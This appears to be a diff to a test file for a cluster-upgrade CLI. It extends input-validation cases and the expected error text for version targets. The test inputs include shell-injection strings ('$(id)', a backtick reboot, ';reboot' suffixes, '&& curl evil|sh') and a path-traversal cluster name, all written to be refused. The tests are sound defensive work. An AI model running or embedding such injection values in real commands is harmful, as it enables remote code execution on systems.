@@ -34,11 +34,11 @@ const upgrade = (cluster: string, to: string, ...more: string[]) => ['upgrade', 
 
 /** Client-side refusals: the CLI checks these before it contacts Temporal. */
 export function cliCases({ cluster, someFile }: CaseContext): BadInput[] {
-  const to = (version: string, stderr = /^skewless: invalid target .*expected a version such as 1\.34\.2 or a minor such as 1\.34$/) =>
+  const to = (version: string, stderr = /^skewless: invalid target .*expected a version such as 1\.34\.2, a minor such as 1\.34, latest-patch or next-minor$/) =>
     ({ name: `version ${JSON.stringify(version)}`, args: upgrade(cluster, version), exit: 2 as const, stderr });
   const flag = (name: string, args: string[], stderr: RegExp) => ({ name, args, exit: 2 as const, stderr });
   return [
-    to('1.33.x'), to('1.33.07'), to('latest'), to(' 1.33.7'), to('1.33.7.1'),
+    to('1.33.x'), to('1.33.07'), to('latest'), to('next-major'), to('latest-patch;reboot'), to(' 1.33.7'), to('1.33.7.1'),
     to('1.33.7;reboot'), to('$(id)'), to('`reboot`'), to('1.33.7\nreboot'), to('1.33.7 && curl evil|sh'),
     to('', /^skewless: --to is required$/),
     flag('cluster name with path traversal', upgrade('../x', '1.32.6'), /^skewless: invalid cluster name "\.\.\/x": a DNS label$/),
